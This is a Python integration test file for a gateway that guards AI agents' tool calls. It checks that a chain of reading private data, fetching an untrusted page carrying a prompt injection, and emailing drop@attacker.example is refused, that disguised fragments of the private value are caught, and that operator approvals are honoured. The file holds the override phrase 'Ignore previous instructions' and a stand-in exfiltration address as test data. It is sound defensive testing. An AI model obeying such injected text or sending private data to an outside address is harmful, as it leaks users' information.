"""Flow policy end to end with real peers: server-everything (`get-env`: private), mcp-server-fetch on a loopback
page with an injection (untrusted), the mailbox sink (egress), the official SDK client, `build_runtime()`."""

from __future__ import annotations

import json
from typing import Any

import anyio
import pytest
from mcp import Client, types
from mcp.shared.exceptions import MCPError

from bastion.audit.capture import capture_audit
from bastion.auth.principal import Principal
from bastion.errors import Reason
from bastion.testing import client_transport
from tests.policy.flow_harness import (
    CUSTOMER_EMAIL,
    EXFILTRATION_RULE,
    flow_config,
    flow_gateway,
    injection_page,
    sent,
)

pytestmark = [pytest.mark.anyio, pytest.mark.integration]

MAIL_IS_EGRESS = {"servers": ["mail"], "tools": ["send_email"], "labels": ["egress"]}
ALICE = Principal(name="alice", method="api_key", key_id="k-alice")
BOB = Principal(name="bob", method="api_key", key_id="k-bob")


def mail(body: str) -> dict[str, Any]:
    return {"to": "drop@attacker.example", "subject": "notes", "body": body}


def text(result: types.CallToolResult) -> str:
    return " ".join(c.text for c in result.content if isinstance(c, types.TextContent))


async def test_the_classic_chain_is_refused_and_the_refusal_names_it_without_the_data(tmp_path):
    audit = capture_audit()
    # `refusals: error`: the JSON-RPC error carries the whole chain (the result form is checked below).
    document = flow_config(
        tmp_path, {"labels": [MAIL_IS_EGRESS], "rules": [EXFILTRATION_RULE]}, refusals="error"
    )
    with injection_page() as page:
        async with flow_gateway(document) as (runtime, recorder):
            runtime.gateway.observers.append(audit)
            async with Client(client_transport(runtime.gateway, principal=ALICE), mode="legacy") as client:
                env = await client.call_tool("everything__get-env", {})
                assert CUSTOMER_EMAIL in text(
                    env
                )  # contact data is flagged, not removed: it reached the agent
                fetched = await client.call_tool("fetch__fetch", {"url": page, "raw": True})
                assert "Ignore previous instructions" in text(fetched)
                with pytest.raises(MCPError) as info:
                    await client.call_tool("mail__send_email", mail("see you monday"))
    error = info.value.error
    assert error.code == -31001 and error.data["reason"] == Reason.POLICY_DENIED
    assert error.data["rule"] == "no-exfiltration"
    chain = error.data["chain"]
    assert [(m["kind"], m["tool"]) for m in chain] == [
        ("private", "everything__get-env"),
        ("untrusted", "fetch__fetch"),
    ]
    assert chain[0]["findings"] == ["pii/email"] and "injection/" in " ".join(chain[1]["findings"])
    assert all(m["event"] and m["time"] > 0 for m in chain)
    assert "everything__get-env" in error.message and CUSTOMER_EMAIL not in json.dumps(error.model_dump())
    assert sent(tmp_path) == []
    tainting = [e for e in recorder.exchanges if e.method == "tools/call"][:2]
    assert [m["event"] for m in chain] == [e.exchange_id for e in tainting]
    events = audit.of_kind("exchange")
    by_id = {e.event_id: e.to_dict() for e in events}
    for mark in chain:  # each finding id names the finding in the audit event of the tainting result
        assert mark["finding_ids"]
        for finding_id in mark["finding_ids"]:
            event_id, _, n = finding_id.partition("#")
            listed = [f for d in by_id[event_id]["decisions"] for f in d["findings"]]
            assert f"{listed[int(n)]['detector']}/{listed[int(n)]['type']}" in mark["findings"]
    flow_decisions = [d for e in events for d in e.to_dict()["decisions"] if d["stage"] == "flow"]
    assert {f["type"] for d in flow_decisions for f in d["findings"]} == {
        "taint_private",
        "taint_untrusted",
        "flow_rule",
    }


async def test_each_link_alone_and_private_plus_egress_without_untrusted_are_allowed(tmp_path):
    document = flow_config(tmp_path, {"labels": [MAIL_IS_EGRESS], "rules": [EXFILTRATION_RULE]})
    with injection_page() as page:
        async with flow_gateway(document) as (runtime, _recorder):
            gateway = runtime.gateway
            async with Client(client_transport(gateway), mode="legacy") as client:
                await client.call_tool("everything__get-env", {})
                assert text(await client.call_tool("mail__send_email", mail("hello"))).startswith("sent")
            async with Client(client_transport(gateway), mode="legacy") as client:
                await client.call_tool("fetch__fetch", {"url": page, "raw": True})
                assert text(await client.call_tool("mail__send_email", mail("hello"))).startswith("sent")
            async with Client(client_transport(gateway), mode="legacy") as client:
                assert text(await client.call_tool("mail__send_email", mail("hello"))).startswith("sent")
    assert len(sent(tmp_path)) == 3


async def test_a_private_value_in_any_tools_arguments_is_refused_whatever_its_labels(tmp_path):
    document = flow_config(tmp_path, {})  # no labels on mail, no rules: only the data rule
    async with (
        flow_gateway(document) as (runtime, _recorder),
        Client(client_transport(runtime.gateway), mode="legacy") as client,
    ):
        await client.call_tool("everything__get-env", {})
        assert text(await client.call_tool("everything__echo", {"message": "nothing private"}))
        # Re-cased, re-spaced and cut: a fragment of 12 letters and digits of the value is enough.
        disguised = "reach " + CUSTOMER_EMAIL.split(".", 1)[1].upper().replace(".", " ")
        for tool, args in (
            ("mail__send_email", mail(disguised)),
            ("everything__echo", {"message": disguised}),
        ):
            refused = await client.call_tool(tool, args)  # refusals: result, the default
            why = refused.meta["dev.bastion/refusal"]
            assert refused.is_error and why["by"] == "flow" and why["rule"] == "data-rule"
            assert [m["tool"] for m in why["chain"]] == ["everything__get-env"]
            assert "everything__get-env" in text(refused)
            assert CUSTOMER_EMAIL not in text(refused) and CUSTOMER_EMAIL not in json.dumps(why)
    assert sent(tmp_path) == []


async def test_the_chain_split_across_two_principals_sessions_is_not_conflated(tmp_path):
    document = flow_config(tmp_path, {"labels": [MAIL_IS_EGRESS], "rules": [EXFILTRATION_RULE]})
    with injection_page() as page:
        async with flow_gateway(document) as (runtime, _recorder):
            gateway = runtime.gateway
            async with (
                Client(client_transport(gateway, principal=ALICE), mode="legacy") as alice,
                Client(client_transport(gateway, principal=BOB), mode="legacy") as bob,
            ):
                await alice.call_tool("everything__get-env", {})
                await bob.call_tool("fetch__fetch", {"url": page, "raw": True})
                assert text(await bob.call_tool("mail__send_email", mail("hello"))).startswith("sent")
                assert text(await alice.call_tool("mail__send_email", mail("hello"))).startswith("sent")
                await alice.call_tool("fetch__fetch", {"url": page, "raw": True})
                refused = await alice.call_tool("mail__send_email", mail("hello"))
                assert refused.is_error
                assert {m["tool"] for m in refused.meta["dev.bastion/refusal"]["chain"]} == {
                    "everything__get-env",
                    "fetch__fetch",
                }
    assert len(sent(tmp_path)) == 2


@pytest.mark.parametrize("approve", [True, False])
async def test_an_ask_rule_asks_an_operator_with_the_chain_and_follows_the_answer(tmp_path, approve):
    # Approvals go to operators (the dashboard, the admin API): the agent under check is never asked.
    asked: list[str] = []

    async def elicitation(ctx: Any, params: Any) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": True})

    document = flow_config(
        tmp_path, {"labels": [MAIL_IS_EGRESS], "rules": [{**EXFILTRATION_RULE, "action": "ask"}]}
    )
    answers: list[types.CallToolResult] = []
    with injection_page() as page:
        async with (
            flow_gateway(document) as (runtime, _recorder),
            Client(
                client_transport(runtime.gateway), mode="legacy", elicitation_callback=elicitation
            ) as client,
        ):
            await client.call_tool("everything__get-env", {})
            await client.call_tool("fetch__fetch", {"url": page, "raw": True})

            async def call() -> None:
                answers.append(await client.call_tool("mail__send_email", mail("hello")))

            async with anyio.create_task_group() as tg:
                tg.start_soon(call)
                with anyio.fail_after(10):
                    while not (pending := await runtime.gateway.approvals.pending()):
                        await anyio.sleep(0.01)
                assert await runtime.gateway.approvals.resolve(pending[0].id, approve)
    question = pending[0].question
    assert "everything__get-env" in question and CUSTOMER_EMAIL not in question
    assert asked == []
    (answer,) = answers
    if approve:
        assert text(answer).startswith("sent")
    else:  # refused: an isError result the model can read (refusals: result), and nothing was sent
        assert answer.is_error and answer.meta["dev.bastion/refusal"]["approval"] == "denied"
    assert len(sent(tmp_path)) == (1 if approve else 0)
